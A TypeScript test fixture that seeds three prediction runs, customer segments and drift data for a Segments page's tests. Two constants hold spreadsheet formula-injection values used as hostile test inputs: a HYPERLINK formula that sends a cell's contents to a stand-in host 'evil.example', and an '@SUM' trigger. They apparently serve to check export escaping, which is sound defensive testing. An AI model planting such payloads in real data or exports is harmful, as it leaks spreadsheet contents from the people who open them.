// A brand's prediction history as the scheduled run stores it, for the Segments page's tests
// (read API over DuckDB, browser): three ok runs a day apart with segment sizes that change and
// drift against the one before, the newest run's members (one with a profile id and one in a
// segment a spreadsheet would run as formulas, one without orders), and a profile of an older
// run that left, whose stale row the newest run's pages must not show.
import type { Warehouse } from '../../ingest/warehouse/types';
import type { CustomerPrediction, PredictionRun, SegmentSummary } from '../../src/lib/shared/predictions';
import { predictionRecord as memberRecord, predictionRunRecord as runRecord } from './prediction-records';

export { predictionRecord as memberRecord, predictionRunRecord as runRecord } from './prediction-records';

export const HOSTILE_PROFILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
export const HOSTILE_SEGMENT = '@SUM(1,1)';

const DAY_MS = 86_400_000;

export interface SegmentScenario {
  runs: PredictionRun[];
  /** The newest run's members by profile id. */
  members: CustomerPrediction[];
}

const centroid = (recency: number, frequency: number, monetary: number) => ({
  recency,
  frequency,
  monetary,
  tenure: recency + 200,
  events30d: 4.5,
  web: 0.5,
  store: 0.25,
  whatsapp: 0.25,
  intent: 0.4,
});

function segments(sizes: Array<[string, number]>): SegmentSummary[] {
  const total = sizes.reduce((sum, [, size]) => sum + size, 0);
  return sizes.map(([name, size]) => ({
    name,
    size,
    share: size / total,
    centroid:
      name === 'no orders'
        ? null
        : name === 'champions'
          ? centroid(6, 7.5, 640.25)
          : name === 'at risk'
            ? centroid(140, 3, 210.5)
            : centroid(60, 1.2, 45),
  }));
}

/** Writes the scenario for `brand` with its newest run ten minutes before `now`. */
export async function seedSegmentScenario(
  warehouse: Warehouse,
  brand: string,
  now: Date,
  /** Members of 'occasional' in the newest run: more than a page (50) to page through them. */
  occasional = 2,
): Promise<SegmentScenario> {
  const start = (ms: number) => new Date(now.getTime() - ms).toISOString();
  const oldest = runRecord(brand, `${brand}-run-1`, start(2 * DAY_MS + 600_000), {
    customers: 8,
    buyers: 7,
    k: 3,
    silhouette: 0.41,
    silhouettes: [{ k: 3, silhouette: 0.41 }],
    segments: segments([
      ['champions', 2],
      ['at risk', 1],
      ['occasional', 4],
      ['no orders', 1],
    ]),
  });
  const middle = runRecord(brand, `${brand}-run-2`, start(DAY_MS + 600_000), {
    customers: 10,
    buyers: 9,
    k: 3,
    silhouette: 0.44,
    silhouettes: [{ k: 3, silhouette: 0.44 }],
    segments: segments([
      ['champions', 3],
      ['at risk', 2],
      ['occasional', 4],
      ['no orders', 1],
    ]),
  });
  const newest = runRecord(brand, `${brand}-run-3`, start(600_000), {
    customers: 9 + occasional, // the members below
    buyers: 8 + occasional,
    k: 4,
    silhouette: 0.52,
    silhouettes: [
      { k: 3, silhouette: 0.48 },
      { k: 4, silhouette: 0.52 },
      { k: 5, silhouette: 0.43 },
    ],
    segments: segments([
      ['champions', 4],
      ['at risk', 3],
      ['occasional', occasional],
      [HOSTILE_SEGMENT, 1],
      ['no orders', 1],
    ]),
    drift: {
      previous_run_id: middle.run_id,
      stayed: 5,
      moved: 4,
      entered: 2,
      left: 1,
      moves: [
        { from: 'champions', to: 'champions', count: 3 },
        { from: 'at risk', to: 'champions', count: 1 },
        { from: 'occasional', to: 'at risk', count: 2 },
        { from: 'occasional', to: HOSTILE_SEGMENT, count: 1 },
        { from: '(entered)', to: 'champions', count: 2 },
        { from: 'occasional', to: '(left)', count: 1 },
        { from: 'at risk', to: 'at risk', count: 1 },
        { from: 'no orders', to: 'no orders', count: 1 },
      ],
    },
  });
  const computedAt = newest.finished_at;
  const member = (id: string, segment: string, i: number, fields: Partial<CustomerPrediction> = {}) =>
    memberRecord(brand, id, computedAt, {
      run_id: newest.run_id,
      segment,
      orders: 1 + i,
      revenue: 50 + 25 * i,
      recency_days: 3 + i,
      churn_probability: 0.05 * (i + 1),
      predicted_value_12m: 100 + 10 * i,
      ...fields,
    });
  const members = [
    ...['c1', 'c2', 'c3', 'c4'].map((id, i) => member(`${brand}-${id}`, 'champions', i)),
    ...['r1', 'r2', 'r3'].map((id, i) => member(`${brand}-${id}`, 'at risk', 4 + i)),
    ...Array.from({ length: occasional }, (_, i) =>
      member(`${brand}-o${String(i + 1).padStart(3, '0')}`, 'occasional', 7 + (i % 2)),
    ),
    member(HOSTILE_PROFILE, HOSTILE_SEGMENT, 9),
    member(`${brand}-n1`, 'no orders', 0, {
      orders: 0,
      revenue: 0,
      recency_days: null,
      r: null,
      f: null,
      m: null,
      churn_probability: null,
      p_alive: null,
      expected_purchases_12m: null,
      predicted_value_12m: null,
      recommendations: [],
    }),
  ].sort((a, b) => (a.profile_id < b.profile_id ? -1 : 1));
  // Scored by the middle run, then merged away: its row stays under the older run id.
  const left = memberRecord(brand, `${brand}-left`, middle.finished_at, {
    run_id: middle.run_id,
    segment: 'occasional',
    computed_at: middle.finished_at,
  });
  await warehouse.savePredictions([left, ...members]);
  for (const run of [oldest, middle, newest]) await warehouse.savePredictionRun(run);
  return { runs: [newest, middle, oldest], members };
}
